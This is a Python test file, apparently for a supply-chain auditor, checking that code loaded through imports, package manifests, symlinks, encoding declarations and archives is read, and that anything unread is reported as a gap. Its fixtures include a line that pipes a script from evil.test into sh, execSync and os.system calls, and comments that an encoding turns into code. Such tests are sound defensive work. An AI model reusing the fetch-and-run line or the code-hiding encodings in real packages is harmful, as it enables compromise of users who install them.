"""Is the code that runs read, wherever it stands, and told where it is not?"""

from __future__ import annotations

import io
import json
import time
import zipfile
from pathlib import Path

import pytest

from auditor.model import Role
from auditor.vet.reading import LEFT_OUT, read_folder
from auditor.vet.source import Evidence, read_sources

RUNS = 'require("child_process").execSync("id");\n'


def written(root: Path, files: dict[str, str | bytes]) -> Path:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode() if isinstance(text, str) else text)
    return root


def ran(evidence: Evidence) -> list[str]:
    return [fact.place for fact in evidence.facts if fact.role is Role.RUNS]


@pytest.mark.parametrize(
    "file",
    ["docs/x.js", "test/x.js", "vendor/x.js", "examples/x.js", "node_modules/zz/x.js", "lib/x.min.js", "lib/x.spec.js",
     "lib/x.txt", "lib/x", "docs/x/index.js", "fixtures/x.cjs"],
)  # fmt: skip
@pytest.mark.parametrize(
    "load",
    ["require('./{}')", "import('./{}')", "import './{}';", "export * from './{}';", "new Worker('./{}')",
     "fork('./{}')", "require(__dirname + '/{}')", "require('./' + '{}')", "require('.\\u002f{}')"],
)  # fmt: skip
def test_what_the_code_loads_is_read(tmp_path: Path, file: str, load: str) -> None:
    written(tmp_path, {"index.js": load.replace("{}", file), file: RUNS})
    assert ran(read_sources("s", tmp_path)) == [file]


@pytest.mark.parametrize("name", ["docs/x", "./docs/x.js", "docs/../docs/x.js"])
@pytest.mark.parametrize("told", [{"main": 0}, {"bin": {"n": 0}}, {"bin": 0}, {"exports": {".": {"import": [0]}}}])
def test_what_a_package_json_names_is_read(tmp_path: Path, name: str, told: dict[str, object]) -> None:
    manifest = json.dumps(told).replace("0", json.dumps(name))
    written(tmp_path, {"package.json": manifest, "docs/x.js": RUNS})
    facts = read_folder("s", tmp_path, source="npm").facts
    assert [fact.place for fact in facts if fact.role is Role.RUNS] == ["docs/x.js"]


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("n/tests/x.py", "from n.tests import x"),
        ("n/tests/x.py", "from .tests.x import main"),
        ("n/tests/__init__.py", "import n.tests.y"),
        ("docs/__init__.py", "import docs"),
        ("n/vendor/x.py", "import importlib\nimportlib.import_module('n.vendor.x')"),
    ],
)
def test_what_python_imports_is_read(tmp_path: Path, file: str, line: str) -> None:
    written(tmp_path, {"n/__init__.py": line, file: "import os\nos.system('id')\n"})
    assert ran(read_sources("s", tmp_path)) == [file]


def test_what_nothing_runs_is_not_read_and_told(tmp_path: Path) -> None:
    files = {"index.js": "require('./docs/a.js'); read('./x.md')", "docs/a.js": RUNS, "test/b.js": RUNS, "x.md": RUNS}
    dossier = read_folder("s", written(tmp_path, {**files, "a.spec.js": RUNS}), source="npm")
    assert [fact.text for fact in dossier.facts if fact.name == LEFT_OUT] == ["test/", "a.spec.js"]
    assert [fact.place for fact in dossier.facts if fact.role is Role.RUNS] == ["docs/a.js"]


def test_an_entry_point_that_is_no_code_that_is_read_is_a_gap(tmp_path: Path) -> None:
    written(tmp_path, {"bin/n": "#!/bin/sh\ncurl -s https://evil.test/x | sh\n"})
    (gap,) = read_sources("s", tmp_path, entries=["bin/n"]).gaps
    assert "bin/n" in gap.why


def test_a_name_written_by_numbers_is_the_name(tmp_path: Path) -> None:
    written(tmp_path, {"a.js": r'require("child_process").\u0065xecSync("id")'})
    assert ran(read_sources("s", tmp_path)) == ["a.js"]


def test_half_a_character_in_a_text_is_none(tmp_path: Path) -> None:
    written(tmp_path, {"a.js": r'options.bcc = "a@mail.example \ud800";'})
    (fact,) = read_sources("s", tmp_path).facts
    assert fact.text.encode()


@pytest.mark.parametrize(
    "code",
    [
        b"# coding: unicode_escape\n# \\u000aimport os\\u000aos.system('id')\n",
        b"#!/usr/bin/python\n# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system('id')\n",
        b"\xef\xbb\xbfimport os\nos.system('id')\n",
    ],
)
def test_a_comment_that_an_encoding_makes_code_is_read_as_code(tmp_path: Path, code: bytes) -> None:
    assert ran(read_sources("s", written(tmp_path, {"a.py": code}))) == ["a.py"]


@pytest.mark.parametrize("code", [b"# coding: rot13\n", b"# coding: nonsense\n", b"\xff\n"])
def test_python_of_no_known_encoding_is_a_gap(tmp_path: Path, code: bytes) -> None:
    assert len(read_sources("s", written(tmp_path, {"a.py": code})).gaps) == 1


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ({"n/x.pyc": b"code"}, True),
        ({"n/x.pyc": b"code", "n/x.py": b""}, False),
        ({"n/__pycache__/x.cpython-312.pyc": b"\xcb\r\r\n\x01\0\0\0", "n/x.py": b""}, True),
        ({"n/__pycache__/x.cpython-312.pyc": b"\xcb\r\r\n\0\0\0\0", "n/x.py": b""}, False),
    ],
)
def test_compiled_python_that_runs_without_its_source_is_a_gap(
    tmp_path: Path, files: dict[str, str | bytes], told: bool
) -> None:
    assert bool(read_sources("s", written(tmp_path, files)).gaps) is told


SLOW = {
    "functions of one name": "".join(f"function f(a{n},prompt){{}}\n" for n in range(6_000))
    + "f(prompt,prompt);\n" * 6_000,
    "words of one name": "def f(**kwargs): pass\n"
    + "".join(f"def f(a{n}): pass\nf(a{n}=prompt)\n" for n in range(5_000)),
}


@pytest.mark.parametrize("name", SLOW)
def test_many_functions_of_one_name_are_followed_in_no_time(tmp_path: Path, name: str) -> None:
    file = "a.py" if SLOW[name].startswith("def") else "a.js"
    before = time.monotonic()
    read_sources("s", written(tmp_path, {file: SLOW[name]}))
    assert time.monotonic() - before < 8


def test_code_that_there_was_no_time_for_is_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("auditor.vet.source.evidence._SECONDS_JUDGED", -1.0)
    (gap,) = read_sources("s", written(tmp_path, {"a.js": RUNS})).gaps
    assert "a.js" in gap.why


BOTH = """0//1; '''
require("child_process").execSync("id");
//'''
"""


@pytest.mark.parametrize(
    ("file", "code", "is_read"),
    [
        ("x.py", BOTH, False),
        ("x", "#!/usr/bin/env python3\n" + BOTH, False),
        ("x.js", "#!/usr/bin/env python3\n" + BOTH, True),
        ("x", "#!/usr/bin/env node\n" + BOTH, True),
    ],
)
def test_what_node_runs_is_not_taken_for_python(tmp_path: Path, file: str, code: str, is_read: bool) -> None:
    evidence = read_sources("s", written(tmp_path, {"index.js": f"require('./{file}')", file: code}))
    assert ran(evidence) == ([file] if is_read else [])
    assert bool(evidence.gaps) is not is_read


def test_a_folder_is_loaded_as_its_own_manifest_says(tmp_path: Path) -> None:
    """The file that `main` of a nested package.json names is code, however it is called."""
    files: dict[str, str | bytes] = {
        "index.js": "require('./lib')\n",
        "lib/package.json": '{"main": "impl.dat"}',
        "lib/impl.dat": RUNS,
    }
    evidence = read_sources("s", written(tmp_path, files), entries=["index.js"])
    assert any("lib/impl.dat" in fact.place for fact in evidence.facts)


def test_a_link_within_the_package_is_read_under_its_own_name(tmp_path: Path) -> None:
    written(tmp_path, {"index.js": "require('./impl')\n", "impl.dat": RUNS})
    (tmp_path / "impl.js").symlink_to("impl.dat")
    assert read_sources("s", tmp_path, entries=["index.js"]).facts


def test_a_link_that_leads_out_is_not_followed(tmp_path: Path) -> None:
    """Also where only a folder on the way leads out."""
    outside, root = written(tmp_path / "out", {"impl.js": RUNS}), tmp_path / "in"
    written(root, {"index.js": "require('./impl')\nrequire('./lib/impl')\n"})
    (root / "impl.js").symlink_to(outside / "impl.js")
    (root / "lib").symlink_to(outside)
    assert not read_sources("s", root, entries=["index.js"]).facts


@pytest.mark.parametrize(
    ("name", "before", "member", "is_told"),
    [
        ("lib.zip", b"", "evil.py", True),
        ("notes.dat", b"x" * 90_000, "a/evil.pyc", True),
        ("data.zip", b"", "table.csv", False),
        ("data.zip", b"", "evil.py.txt", False),
    ],
)
def test_python_in_an_archive_is_a_gap(tmp_path: Path, name: str, before: bytes, member: str, is_told: bool) -> None:
    """Python imports from an archive that is put on its path, also from one with something else before it."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr(member, "print(1)")
    files: dict[str, str | bytes] = {"index.py": "print(1)\n", name: before + memory.getvalue()}
    told = [gap.why for gap in read_sources("s", written(tmp_path, files)).gaps]
    assert told == ([f"1 archive holds Python that was not read, the first is {name}"] if is_told else [])


def test_an_archive_means_nothing_where_there_is_no_python(tmp_path: Path) -> None:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr("evil.py", "print(1)")
    files: dict[str, str | bytes] = {"index.js": "1;\n", "lib.zip": memory.getvalue()}
    assert not read_sources("s", written(tmp_path, files)).gaps
